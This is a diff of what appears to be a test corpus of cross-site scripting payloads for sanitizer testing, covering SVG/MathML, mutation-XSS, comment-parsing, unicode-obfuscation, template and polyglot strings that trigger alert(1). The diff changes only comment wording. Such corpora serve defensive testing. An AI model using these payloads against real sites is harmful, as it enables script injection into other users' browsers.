@@ -1,4 +1,4 @@
-/** SVG and MathML, whose elements browsers read by other rules. */
+/** SVG and MathML, which browsers parse by different rules. */
 export const foreign = [
   '<svg onload=alert(1)>',
   '<svg/onload=alert(1)//',
@@ -52,7 +52,7 @@ export const foreign = [
   '<math><ms><style></ms><img src=x onerror=alert(1)></style></math>',
 ]
 
-/** What becomes something else when it is written out and read again. */
+/** Markup that changes its meaning when it is serialized and parsed again. */
 const MUTATING = [
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
@@ -112,7 +112,7 @@ export const mutations = [
 
 const IMG = '<img src=x onerror=alert(1)>'
 
-/** Comments, declarations, instructions and marked sections, ended as some readers end them and others do not. */
+/** Comments, declarations, processing instructions and CDATA sections whose end parsers interpret differently. */
 export const comments = [
   `<!-->${IMG}-->`,
   `<!--!>${IMG}`,
@@ -180,7 +180,7 @@ const WIDE = [
   '\u007f',
 ]
 
-/** Signs that are left out, replaced or taken for others on the way. */
+/** Characters that are removed, replaced or normalized during processing. */
 export const unicode = [
   ...WIDE.map((sign) => `<im${sign}g src=x onerror=alert(1)>`),
   ...WIDE.map((sign) => `<img${sign}src=x onerror=alert(1)>`),
@@ -240,7 +240,7 @@ export const templates = [
   '@{{alert(1)}} %{alert(1)} !{alert(1)} *{alert(1)}',
 ]
 
-/** One text that breaks out of many places. */
+/** One text that breaks out of many contexts. */
 export const polyglots = [
   'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e',
   '">><marquee><img src=x onerror=alert(1)></marquee>" ></plaintext\\></|\\><plaintext/onmouseover=alert(1) >',
